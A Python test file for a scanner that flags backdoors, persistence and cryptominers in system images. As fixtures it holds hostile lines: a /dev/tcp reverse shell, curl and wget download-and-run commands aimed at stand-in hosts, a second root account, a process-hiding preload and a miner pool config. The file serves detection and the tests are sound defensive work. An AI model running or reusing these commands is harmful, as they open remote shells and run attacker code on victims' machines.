"""FileDetector heuristics: one positive and one negative per family, plus disguised variants."""

from __future__ import annotations

import json
import re
import tracemalloc
from unittest import mock
import struct

import pytest
from hypothesis import given, settings, strategies as st

from explorer.detectors.heuristics import heuristic_rule_catalog
from explorer.detectors.heuristics import disguise, monero
from explorer.detectors.heuristics.accounts import PasswdAccounts, ShadowPasswords, SudoersRules
from explorer.detectors.heuristics.disguise import ExtensionMismatch
from explorer.detectors.heuristics.dropped import DroppedExecutables
from explorer.detectors.heuristics.monero import MinerPoolConfig, MoneroWallets, check_address
from explorer.detectors.heuristics.persistence import PersistenceFiles
from explorer.detectors.heuristics.preload import LdSoPreload
from explorer.core.model import EntryKind, FileEntry

CATALOG = {rule.id: rule for rule in heuristic_rule_catalog()}
GENERAL_FUND = ("44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98u"
                "Nbr2VBBEt7f2wfn3RVGQBEP3A")
"""The Monero project's published donation address: a real, valid mainnet address."""


def tiny_elf() -> bytes:
    """A minimal x86-64 ELF executable (header + one program header), enough for libmagic."""
    ident = b"\x7fELF\x02\x01\x01" + b"\0" * 9
    header = struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    program = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 0x80, 0x80, 0x1000)
    return ident + header + program + b"\x90" * 8


def tiny_pe() -> bytes:
    dos = b"MZ" + b"\0" * 0x3A + struct.pack("<I", 0x40)
    coff = b"PE\0\0" + struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 0xE0, 0x102)
    optional = struct.pack("<H", 0x10B) + b"\0" * 0xDE
    return dos + coff + optional


def run(detector, path: str, data: bytes, mode: int = 0o644):
    """wants() then scan(), as the engine does; every match must be a catalogued rule."""
    entry = FileEntry(path=path, kind=EntryKind.FILE, layer=1, size=len(data), mode=mode)
    if not detector.wants(entry):
        return None
    matches = list(detector.scan(entry, data))
    for match in matches:
        rule = CATALOG[match.rule_id]
        assert match.category == rule.category
    return matches


def ids(matches) -> dict[str, str]:
    return {m.rule_id: m.severity for m in matches or ()}


# -- accounts ------------------------------------------------------------------------------------

DEBIAN_PASSWD = b"""root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin
"""


def test_second_uid0_account_is_high_and_root_alone_is_fine():
    found = run(PasswdAccounts(), "/etc/passwd", DEBIAN_PASSWD + b"toor:x:0:0::/root:/bin/bash\n")
    assert ids(found) == {"backdoor.accounts.second-uid0": "high"}
    assert found[0].line == 4 and found[0].evidence.startswith("toor:x:0:0")
    assert run(PasswdAccounts(), "/etc/passwd", DEBIAN_PASSWD) == []


def test_empty_password_field_in_passwd():
    found = run(PasswdAccounts(), "/etc/passwd", DEBIAN_PASSWD + b"guest::1001:1001::/home/guest:/bin/sh\n")
    assert ids(found) == {"backdoor.accounts.empty-password": "medium"}
    assert "<empty>" in found[0].evidence


def test_empty_shadow_hash_is_found_but_locked_markers_are_not():
    locked = (b"root:*:19000:0:99999:7:::\ndaemon:!:19000::::::\nsvc:!!:19000::::::\nold:!*:19000::::::\n"
              b"bob:$6$abcdefgh$0123456789abcdefghij:19000:0:99999:7:::\n")
    assert run(ShadowPasswords(), "/etc/shadow", locked) == []
    found = run(ShadowPasswords(), "/etc/shadow", locked.replace(b"root:*:", b"root::"))
    assert ids(found) == {"backdoor.accounts.empty-password": "high"}
    assert found[0].line == 1
    other = run(ShadowPasswords(), "/etc/shadow", locked + b"backup::19000::::::\n")
    assert ids(other) == {"backdoor.accounts.empty-password": "medium"}


def test_shadow_hash_is_masked_in_evidence():
    found = run(PasswdAccounts(), "/etc/passwd", b"toor:$6$saltsalt$hashhashhash:0:0::/root:/bin/sh\n")
    assert "hashhash" not in found[0].evidence and "$6$s****" in found[0].evidence


DEBIAN_SUDOERS = b"""# /etc/sudoers
Defaults\tenv_reset
Defaults\tsecure_path="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin"
root\tALL=(ALL:ALL) ALL
%sudo\tALL=(ALL:ALL) ALL
@includedir /etc/sudoers.d
#includedir /etc/sudoers.d
"""


def test_nopasswd_all_for_a_user_is_medium_stock_sudoers_is_quiet():
    assert run(SudoersRules(), "/etc/sudoers", DEBIAN_SUDOERS) == []
    found = run(SudoersRules(), "/etc/sudoers.d/app", b"app ALL=(ALL) NOPASSWD: ALL\n")
    assert ids(found) == {"backdoor.accounts.sudoers-nopasswd": "medium"}
    root_only = run(SudoersRules(), "/etc/sudoers.d/root", b"root ALL=(ALL) NOPASSWD: ALL\n")
    assert root_only == []


def test_sudoers_continuation_lines_and_narrow_rules():
    joined = run(SudoersRules(), "/etc/sudoers.d/ci", b"ci ALL=(ALL) \\\n   NOPASSWD:SETENV: /bin/ls, ALL\n")
    assert ids(joined) == {"backdoor.accounts.sudoers-nopasswd": "medium"} and joined[0].line == 1
    narrow = run(SudoersRules(), "/etc/sudoers.d/deploy", b"deploy ALL=(root) NOPASSWD: /usr/bin/systemctl restart app\n")
    assert ids(narrow) == {"backdoor.accounts.sudoers-rule": "info"}


# -- ld.so.preload -------------------------------------------------------------------------------

def test_ld_so_preload_entry_is_reported_with_its_path():
    found = run(LdSoPreload(), "/etc/ld.so.preload", b"# hide\n/usr/local/lib/libprocesshider.so\n")
    assert ids(found) == {"backdoor.preload.ld-so-preload": "high"}
    assert found[0].evidence == "/usr/local/lib/libprocesshider.so" and found[0].line == 2
    hidden = run(LdSoPreload(), "/etc/ld.so.preload", b"/tmp/.x/libz.so:/lib/libc.so.6\n")
    assert ids(hidden) == {"backdoor.preload.ld-so-preload": "critical"}


def test_ld_so_preload_comments_only_or_empty_is_quiet():
    assert run(LdSoPreload(), "/etc/ld.so.preload", b"# nothing here\n\n   \n") == []
    assert run(LdSoPreload(), "/etc/ld.so.preload", b"") is None
    assert run(LdSoPreload(), "/etc/ld.so.conf", b"/usr/local/lib\n") is None


# -- persistence ---------------------------------------------------------------------------------

DEBIAN_CRONTAB = b"""SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin
17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly
25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }
"""
E2SCRUB = (b"30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 "
           b"/usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n")
DEBIAN_PROFILE = b"""if [ -d "$HOME/bin" ] ; then
    PATH="$HOME/bin:$PATH"
fi
if [ -d "$HOME/.local/bin" ] ; then PATH="$HOME/.local/bin:$PATH"; fi
. "$HOME/.cargo/env"
mesg n 2> /dev/null || true
"""


@pytest.mark.parametrize("path, data, rule, severity", [
    ("/etc/cron.d/sysupdate", b"*/5 * * * * root /tmp/.x/kworker >/dev/null 2>&1\n",
     "backdoor.persistence.temp-exec", "high"),
    ("/var/spool/cron/crontabs/root", b"*/10 * * * * curl -fsSL http://203.0.113.7/a.sh | sh\n",
     "backdoor.persistence.download-exec", "high"),
    ("/root/.bashrc", b"alias ll='ls -l'\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1 &\n",
     "backdoor.persistence.dev-tcp", "high"),
    ("/etc/systemd/system/sysupdate.service", b"[Service]\nExecStart=/usr/lib/.cache/.d/updated --quiet\n",
     "backdoor.persistence.hidden-exec", "medium"),
    ("/etc/profile.d/zz.sh", b"nohup /dev/shm/x >/dev/null 2>&1 &\n", "backdoor.persistence.temp-exec", "high"),
    ("/etc/rc.local", b"#!/bin/sh -e\nsh -c 'cd /var/tmp && ./sshd'\nexit 0\n", "backdoor.persistence.temp-exec",
     "high"),
    ("/etc/supervisor/conf.d/app.conf", b"[program:app]\ncommand=/var/tmp/.s/miner -c cfg\n",
     "backdoor.persistence.temp-exec", "high"),
    ("/home/dev/.zshrc", b"wget -q http://x.example/k -O /tmp/k && chmod +x /tmp/k && /tmp/k\n",
     "backdoor.persistence.download-exec", "high"),
])
def test_persistence_points_that_run_from_temp_hidden_or_network(path, data, rule, severity):
    found = run(PersistenceFiles(), path, data)
    assert ids(found).get(rule) == severity


@pytest.mark.parametrize("path, data", [
    ("/etc/crontab", DEBIAN_CRONTAB),
    ("/etc/cron.d/e2scrub_all", E2SCRUB),
    ("/root/.profile", DEBIAN_PROFILE),
    ("/etc/systemd/system/app.service",
     b"[Service]\nPrivateTmp=yes\nExecStartPre=/bin/rm -rf /tmp/app-cache\nExecStart=/usr/bin/app --tmp /tmp\n"),
    ("/etc/init.d/app", b"#!/bin/sh\n# curl http://x | sh would be bad\nPIDFILE=/tmp/app.pid\nexec /usr/sbin/app\n"),
])
def test_stock_and_benign_persistence_files_are_quiet(path, data):
    assert run(PersistenceFiles(), path, data) == []


def test_persistence_ignores_unrelated_files():
    assert run(PersistenceFiles(), "/srv/app/run.sh", b"/tmp/x\n") is None


# -- dropped executables ------------------------------------------------------------------------

def test_miner_renamed_kworker_in_hidden_tmp_folder_is_high():
    found = run(DroppedExecutables(), "/tmp/.x/kworker", tiny_elf(), mode=0o755)
    assert ids(found) == {"suspicious.dropped.executable": "high"}
    assert ".x" in found[0].evidence and "ELF" in found[0].evidence


@pytest.mark.parametrize("path, data, severity", [
    ("/dev/shm/a", tiny_elf(), "high"),
    ("/usr/lib/.x/sshd", tiny_elf(), "high"),
    ("/tmp/tool", tiny_elf(), "medium"),
    ("/tmp/.cache-x/run", b"#!/bin/sh\n./x\n", "medium"),
    ("/tmp/install.sh", b"#!/bin/bash\nset -e\n", "low"),
])
def test_executables_in_temp_and_hidden_places(path, data, severity):
    assert ids(run(DroppedExecutables(), path, data)) == {"suspicious.dropped.executable": severity}


def test_dropped_negatives_text_in_tmp_and_tool_dot_dirs():
    assert run(DroppedExecutables(), "/tmp/.x/notes", b"just some notes\n") == []
    assert run(DroppedExecutables(), "/root/.cargo/bin/cargo", tiny_elf()) is None
    assert run(DroppedExecutables(), "/usr/bin/ls", tiny_elf()) is None


def test_known_miner_name_alone_is_only_a_low_hint():
    found = run(DroppedExecutables(), "/usr/local/bin/kinsing", tiny_elf(), mode=0o755)
    assert ids(found) == {"miner.dropped.known-name": "low"}


# -- extension lies ------------------------------------------------------------------------------

def test_elf_named_png_is_high():
    found = run(ExtensionMismatch(), "/var/www/static/logo.png", tiny_elf())
    assert ids(found) == {"suspicious.disguise.extension-mismatch": "high"}
    assert "application/x-executable" in found[0].evidence


@pytest.mark.parametrize("path, data, severity", [
    ("/srv/app/debug.log", b"#!/bin/sh\ncurl http://x | sh\n", "medium"),
    ("/srv/app/readme.txt", b"#!/usr/bin/env python3\nimport os\nos.system('id')\n", "medium"),
    ("/opt/app/banner.jpg", tiny_pe(), "medium"),
    ("/usr/share/doc/pkg/examples/run.txt", b"#!/bin/sh\necho example\n", "low"),
])
def test_other_extension_lies(path, data, severity):
    assert ids(run(ExtensionMismatch(), path, data)) == {"suspicious.disguise.extension-mismatch": severity}


def test_real_png_never_reaches_libmagic(monkeypatch):
    calls = []
    monkeypatch.setattr(disguise, "_libmagic", lambda data: calls.append(1))
    png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0) + b"\0" * 4
    assert run(ExtensionMismatch(), "/srv/logo.png", png) == []
    assert calls == []
    assert run(ExtensionMismatch(), "/usr/bin/tool", tiny_elf()) is None  # extension not a lie candidate


# -- Monero --------------------------------------------------------------------------------------

base58_encode, make_address = monero.base58_encode, monero.make_address

needs_keccak = pytest.mark.skipif(monero._keccak_module() is None, reason="pycryptodome (Keccak-256) is not installed")


@needs_keccak
def test_monero_checksum_validation():
    assert check_address(GENERAL_FUND) == "valid"
    assert check_address(GENERAL_FUND[:-1] + ("B" if GENERAL_FUND[-1] != "B" else "C")) is None
    subaddress = make_address(42, bytes(range(64)))
    assert subaddress.startswith("8") and len(subaddress) == 95
    assert check_address(subaddress) == "valid"
    assert monero.base58_decode(GENERAL_FUND[:94] + "0") is None  # 0 is not base58


@needs_keccak
def test_wallet_in_a_script_and_inside_a_binary_is_high():
    script = f"#!/bin/sh\n./x -o pool:3333 -u {GENERAL_FUND} -p rig\n".encode()
    found = run(MoneroWallets(), "/opt/start.sh", script)
    assert ids(found) == {"miner.monero.wallet-address": "high"}
    assert found[0].evidence == GENERAL_FUND and found[0].line == 2
    binary = tiny_elf() + b"\0" + make_address(42, bytes(64)).encode() + b"\0more"
    assert ids(run(MoneroWallets(), "/usr/bin/kworker", binary)) == {"miner.monero.wallet-address": "high"}


def test_base58_lookalikes_are_not_wallets():
    fake = "4" + "A" * 94
    broken = GENERAL_FUND[:40] + ("x" if GENERAL_FUND[40] != "x" else "y") + GENERAL_FUND[41:]
    data = f"id={fake}\nkey={broken}\nlong={GENERAL_FUND}Z\n".encode()
    found = run(MoneroWallets(), "/srv/data.txt", data)
    assert found == [] if monero._keccak_module() is not None else all(m.severity == "low" for m in found)


def test_without_keccak_a_well_formed_address_is_only_low(monkeypatch):
    monkeypatch.setattr(monero, "_keccak", None)
    found = run(MoneroWallets(), "/opt/start.sh", f"-u {GENERAL_FUND}\n".encode())
    assert ids(found) == {"miner.monero.wallet-address": "low"}
    assert "checksum" in found[0].reason


def test_address_candidates_at_every_alignment_are_those_of_a_full_pass():
    runs = [lead + "2" * (length - 1) for lead in "48A" for length in (94, 95, 96, 105, 106, 107)]
    for shift in range(9):
        for sep in (b" ", b"\n", b"\0", b"0", b"_"):
            data = b"-" * shift + sep.join(run.encode() for run in runs) + sep + GENERAL_FUND.encode()
            found = list(monero.address_candidates(data))
            assert found == list(monero._runs(data, 0, len(data)))
            assert [len(text) for _, text in found] == [95, 106, 95, 106, 95]
            assert all(data[offset:offset + len(text)] == text.encode() for offset, text in found)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.tuples(st.sampled_from("48A1z"), st.sampled_from([0, 1, 22, 23, 80, 93, 94, 95, 104, 105, 106, 130]),
                          st.sampled_from(["", " ", "\n", "\0", "0", "_", "lO+", "\xff"])), max_size=10),
       st.integers(min_value=0, max_value=7))
def test_address_candidates_of_generated_data_are_those_of_a_full_pass(parts, shift):
    data = b"Z" * shift + "".join(lead + "k" * n + sep for lead, n, sep in parts).encode("latin-1")
    plain = [(run.start(), run.group().decode()) for run in re.finditer(rb"[1-9A-HJ-NP-Za-km-z]+", data)
             if len(run.group()) in (95, 106) and run.group()[:1] in (b"4", b"8")]
    assert list(monero._runs(data, 0, len(data))) == plain
    for window in (4, 8, 12, 92, 96, 100, 1 << 22):  # the sample is taken a window at a time
        with mock.patch.object(monero, "_WINDOW", window):
            assert list(monero.address_candidates(data)) == plain, window


def test_address_candidates_hold_little_beside_a_big_file():
    data = (b"x" * 94 + b"\n") * (300_000) + GENERAL_FUND.encode() + b"\n" + b"k" * (8 << 20)
    tracemalloc.start()
    try:
        assert [text for _, text in monero.address_candidates(data)] == [GENERAL_FUND]
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 4 << 20, peak  # the sample of one window (1 MiB), twice at most; nothing of the file's size


XMRIG_CONFIG = {
    "autosave": True, "donate-level": 1, "cpu": {"enabled": True},
    "pools": [{"algo": None, "url": "stratum+tcp://pool.example.org:3333", "user": GENERAL_FUND, "pass": "x"}],
}


def test_xmrig_pool_config_is_high():
    found = run(MinerPoolConfig(), "/tmp/.x/config.json", json.dumps(XMRIG_CONFIG, indent=2).encode())
    assert ids(found) == {"miner.monero.pool-config": "high"}
    assert "stratum+tcp://pool.example.org:3333" in found[0].evidence
    assert GENERAL_FUND not in found[0].evidence


def test_pool_config_negatives_and_weak_form():
    assert run(MinerPoolConfig(), "/srv/app/package.json", b'{"name": "x", "version": "1.0.0", "url": "y"}') == []
    weak = run(MinerPoolConfig(), "/srv/app/db.json", b'{"pools": [{"url": "db.internal:5432", "user": "app"}]}')
    assert ids(weak) == {"miner.monero.pool-config": "medium"}


# -- hostile input -------------------------------------------------------------------------------

def test_evidence_from_the_image_is_terminal_safe():
    found = run(PersistenceFiles(), "/etc/cron.d/x", b"* * * * * root /tmp/x \x1b[2J\x1b]0;pwned\x07\n")
    assert ids(found) == {"backdoor.persistence.temp-exec": "high"}
    assert "\x1b" not in found[0].evidence and "\x07" not in found[0].evidence and "\\x1b" in found[0].evidence


def test_padded_lines_are_still_read_to_the_end():
    """Megabyte-scale lines built to make naive regexes backtrack: the payload after them is still found."""
    padding = b"curl x && chmod +x y " * 10000 + b"sh -a " * 10000
    found = run(PersistenceFiles(), "/etc/profile.d/pad.sh", padding + b"; curl -s http://x.example/a | sh\n")
    assert ids(found).get("backdoor.persistence.download-exec") == "high"
    long_cmd = b"ExecStart=" + b"'" * 50000 + b"\nExecStart=/dev/shm/.k/x\n"
    assert ids(run(PersistenceFiles(), "/etc/systemd/system/a.service", long_cmd)) == {
        "backdoor.persistence.temp-exec": "high"}
